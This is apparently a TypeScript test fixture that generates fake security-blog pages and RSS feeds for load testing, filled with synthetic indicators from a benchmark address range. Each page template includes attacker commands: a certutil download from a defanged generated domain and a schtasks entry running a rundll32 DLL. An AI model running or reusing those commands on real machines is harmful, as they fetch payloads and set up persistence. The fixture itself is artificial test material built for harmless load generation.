import { createHash } from 'node:crypto';
import { numbersFrom, sentence, sentences } from './flood-text.ts';

/** A page of about 12 KB, unlike every other, with an address, a domain, a URL and two hashes that only it has. */
export const floodPage = (site: number, article: number): string => {
  const next = numbersFrom(site * 10_007 + article * 97 + 13);
  const title = floodTitle(site, article);
  const seen = floodObservables(site, article);
  return `${head(title)}<article class="post"><h1>${title}</h1><p class="meta">By Desk ${site}</p>
${paragraphs(next, 5)}<h2>Execution</h2>
${paragraphs(next, 4)}<pre><code>cmd.exe /c schtasks /create /tn "Upd${seen.domain.slice(0, 6)}" /tr "rundll32.exe C:\\ProgramData\\${seen.md5.slice(0, 8)}.dll,Start" /sc minute /mo ${next(50) + 5}
certutil -urlcache -split -f hxxp://${seen.domain.replace('.', '[.]')}/${seen.md5.slice(8, 14)} C:\\Users\\Public\\${next(10_000)}.bin</code></pre>
<p>This is scheduled task abuse (T1053.005) through rundll32 (T1218.011).</p>
<h2>Command and control</h2>
${paragraphs(next, 4)}<h2>Indicators</h2>
<table><tr><th>Type</th><th>Value</th></tr><tr><td>IPv4</td><td>${seen.ipv4.replaceAll('.', '[.]')}</td></tr><tr><td>Domain</td><td>${seen.domain.replaceAll('.', '[.]')}</td></tr><tr><td>SHA-256</td><td>${seen.sha256}</td></tr><tr><td>MD5</td><td>${seen.md5}</td></tr></table>
<ul>${Array.from({ length: 5 }, () => `<li>${sentence(next)}</li>`).join('')}</ul></article>${tail}`;
};

/** The values only this page names. Addresses come from 198.18.0.0/15, which RFC 2544 keeps for benchmarks. */
export const floodObservables = (site: number, article: number) => {
  const key = site * 10_000 + article;
  const digest = (algorithm: string) => createHash(algorithm).update(`flood ${site} ${article}`).digest('hex');
  const host = (site * 400 + article) % 131_072;
  return {
    ipv4: `198.${18 + (host >> 16)}.${(host >> 8) & 255}.${host & 255}`,
    domain: `relay-${key.toString(36)}-sync.top`,
    sha256: digest('sha256'),
    md5: digest('md5'),
  };
};

const floodTitle = (site: number, article: number): string =>
  `Case ${site}-${article}: ${sentence(numbersFrom(site * 7919 + article)).split('.', 1)[0]}`;

/** A site's feed: an excerpt per article, one hour between them. */
export const floodFeed = (siteUrl: string, site: number, articles: number, startedAt: Date): string =>
  `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Flood site ${site}</title><link>${siteUrl}/</link><description>Generated for load</description>
${Array.from(
  { length: articles },
  (_, article) =>
    `<item><title>${floodTitle(site, article)}</title><link>${siteUrl}/a/${article}</link><guid>${siteUrl}/a/${article}</guid><pubDate>${new Date(startedAt.getTime() - article * 3_600_000).toUTCString()}</pubDate></item>`,
).join('\n')}
</channel></rss>
`;

const paragraphs = (next: (limit: number) => number, count: number): string =>
  Array.from({ length: count }, () => `<p>${sentences(next, 3)}</p>\n`).join('');

const menu = [
  'Home',
  'Research',
  'Advisories',
  'Malware',
  'Cloud',
  'Identity',
  'Podcast',
  'Events',
  'Careers',
  'Contact',
]
  .map((name) => `<li class="menu-item"><a href="/${name.toLowerCase()}/">${name}</a></li>`)
  .join('');

const head = (title: string): string =>
  `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>${title}</title><meta name="viewport" content="width=device-width"></head>
<body><div class="cookie-banner">We use cookies. <button>Accept</button></div><header><nav><ul>${menu}</ul></nav></header><main>`;

const tail = `</main><aside class="sidebar"><h3>Newsletter</h3><p>One mail a week.</p><ul>${menu}</ul></aside>
<footer><ul>${menu}</ul><p>&copy; 2026 Flood site. All rights reserved.</p></footer></body></html>
`;
